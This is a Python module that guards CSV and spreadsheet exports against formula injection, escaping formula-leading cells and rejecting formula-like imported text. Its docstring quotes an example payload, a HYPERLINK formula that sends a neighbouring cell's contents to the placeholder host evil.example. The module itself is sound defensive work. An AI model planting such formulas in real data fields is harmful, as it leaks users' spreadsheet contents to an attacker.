"""One rule for every cell the platform writes to, or reads from, a CSV file or a spreadsheet.

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(and a leading tab or carriage return hides such a start), so an attacker who gets a value
like ``=HYPERLINK("http://evil.example/?x="&B2,"查看详情")`` into a name, an address or a
failed login's username can make an export leak the sheet's other cells when opened. OWASP's
rule: write such a value with a leading apostrophe, which makes it text. On import, values
that look like formulas in free-text fields are refused with a reason, never stored.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

# ASCII and the full-width forms Chinese input methods type.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_SIGNED_NUMBER = re.compile(r"[+\-＋－][\d\s.,]*")


def safe_cell(value: object) -> object:
    """The value to write into a CSV or spreadsheet cell: text that a spreadsheet would run as a
    formula gets a leading apostrophe; every other value is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    """:func:`safe_cell` over a row; ``None`` becomes an empty cell."""
    return ["" if v is None else safe_cell(v) for v in values]


def looks_like_formula(text: str) -> bool:
    """Whether imported text would run as a formula in a spreadsheet. A lone sign, a signed
    number or a phone number (``+86 138…``) is data, not a formula."""
    stripped = text.lstrip(" \t\r\n")
    if not stripped:
        return False
    if text[:1] in ("\t", "\r") and stripped[0] in "=+-@＝＋－＠":
        return True
    first = stripped[0]
    if first in "=@＝＠":
        return True
    if first in "+-＋－":
        return _SIGNED_NUMBER.fullmatch(stripped) is None
    return False
